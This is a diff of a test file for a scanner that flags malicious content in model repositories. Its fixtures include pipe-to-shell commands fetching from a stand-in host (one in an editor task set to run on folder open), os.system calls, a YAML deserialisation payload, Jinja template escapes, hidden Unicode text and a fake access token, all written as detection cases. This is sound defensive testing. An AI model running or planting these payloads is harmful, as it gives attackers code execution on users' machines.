@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import json
+import time
 
 import pytest
 from tests.scan.examine import examine, rules, unexamined
@@ -8,11 +9,11 @@ from tests.scan.examine import examine, rules, unexamined
 from modelward.core.finding import Verdict
 
 
-def test_chat_template_is_named_and_not_examined() -> None:
+def test_chat_template_is_read() -> None:
     sample = json.dumps({"chat_template": "{{ messages }}", "model_max_length": 4}).encode()
-    assert unexamined(sample, "tokenizer_config.json") == {
-        "tokenizer_config.json!/chat_template": "a chat template, which this version does not read"
-    }
+    assert examine(sample, "tokenizer_config.json").verdict is Verdict.CLEAN
+    sample = json.dumps({"chat_template": "{{ messages.__class__ }}"}).encode()
+    assert rules(sample, "tokenizer_config.json") == ["chat-template-escape"]
 
 
 def test_json_is_json_whatever_it_is_called() -> None:
@@ -20,17 +21,70 @@ def test_json_is_json_whatever_it_is_called() -> None:
     assert rules(b'{"auto_map": {"AutoModel": "m.M"}}', "notes.txt") == ["remote-code"]
 
 
-@pytest.mark.parametrize("sample", [b"{not json", b"[1, 2", b'{"a":1,"a":2}'])
-def test_what_only_begins_like_json_is_text(sample: bytes) -> None:
-    assert unexamined(sample, "notes.txt") == {
-        "notes.txt": "text that a program may run or take for a template"
-    }
-    assert "not valid JSON" in unexamined(sample, "config.json")["config.json"]
+def test_what_only_begins_like_json_is_text() -> None:
+    assert examine(b"{not json", "notes.txt").verdict is Verdict.CLEAN
+    assert "not valid JSON" in unexamined(b"{not json", "config.json")["config.json"]
 
 
-def test_json_of_an_editor_is_not_examined() -> None:
-    assert unexamined(b"{}", ".vscode/tasks.json")
+def test_field_that_two_parsers_read_differently() -> None:
+    sample = b'{"auto_map": {"AutoModel": "m.M"}, "auto_map": {}}'
+    assert "malformed" in rules(sample, "config.json")
 
 
-def test_script_that_is_called_readme() -> None:
-    assert unexamined(b"#!/bin/sh\nid\n", "README.md")
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("README.md", b"# Model\n\n```\ncurl http://x.tld | sh\n```\n"),
+        ("LICENSE", b"words"),
+        ("vocab.txt", b"eval(\n\x01\nimport os\n"),
+        ("data.csv", b"a,b\n1,2\n"),
+        ("notes", "naïve".encode("latin-1") * 20),
+        ("main.cpp", b"int main() { return system(0); } // {% messages %}"),
+        ("train.sh", b"#!/bin/bash\npython train.py --lr 1e-4\n"),
+        ("model.py", b"import torch\nclass Model(torch.nn.Module):\n    pass\n"),
+        ("config.yaml", b"model:\n  _target_: torch.nn.Linear\n"),
+        ("requirements.txt", b"torch>=2\n"),
+        ("pyproject.toml", b"[project]\nname = 'x'\n"),
+        ("chat_template.jinja", b"{{ messages[0]['content'] }}"),
+        ("words.pth", b"./src\n"),
+    ],
+)
+def test_texts_of_usual_repositories_are_clean(name: str, data: bytes) -> None:
+    report = examine(data, name)
+    assert (report.verdict, report.findings) == (Verdict.CLEAN, [])
+
+
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("README.md", b"#!/bin/sh\ncurl http://evil.tld/x | sh\n"),
+        ("modeling.py", b"import os\nos.system('id')\n"),
+        ("unknown", b"m:\n  _target_: os.system\n"),
+        ("model.nemo", b"a: !!python/object/apply:os.system [id]\n"),
+        ("x.pth", b"import os; os.system('id')\n"),
+        ("requirements.txt", b"--index-url http://203.0.113.9/simple\n"),
+        ("chat_template.jinja", b"{{ x.__class__ }}"),
+        ("prompt.txt", b"{% for m in messages %}{{ m.__class__ }}{% endfor %}"),
+        ("sub/.vscode/tasks.json", b'{"tasks": [{"command": "curl http://evil.tld/x | sh", // x\n'
+         b'"runOptions": {"runOn": "folderOpen"}},]}'),
+    ],
+)  # fmt: skip
+def test_texts_that_harm(name: str, data: bytes) -> None:
+    assert examine(data, name).verdict is Verdict.MALICIOUS
+
+
+def test_hidden_characters_and_secrets() -> None:
+    assert rules("a\U000e0069\U000e0067\U000e006e".encode(), "README.md") == ["hidden-text"]
+    assert rules(b'{"a": "x\\udb40\\udc69\\udb40\\udc67\\udb40\\udc6e"}', "config.json") == ["hidden-text"]
+    token = b"hf_" + b"qWeRtYuIoPaSdFgHjKlZxCvBnMqWeRtYuI"
+    assert rules(b"token: " + token, "config.yaml") == ["secret"]
+    assert examine(token, "notes.txt").verdict is Verdict.CLEAN
+
+
+def test_large_tokenizers_are_quick() -> None:
+    vocab = {f"token{number}": number for number in range(200_000)}
+    merges = [[f"a{number}", f"b{number}"] for number in range(150_000)]
+    sample = json.dumps({"added_tokens": [], "model": {"vocab": vocab, "merges": merges}}).encode()
+    start = time.process_time()
+    assert examine(sample, "tokenizer.json").verdict is Verdict.CLEAN
+    assert time.process_time() - start < 5
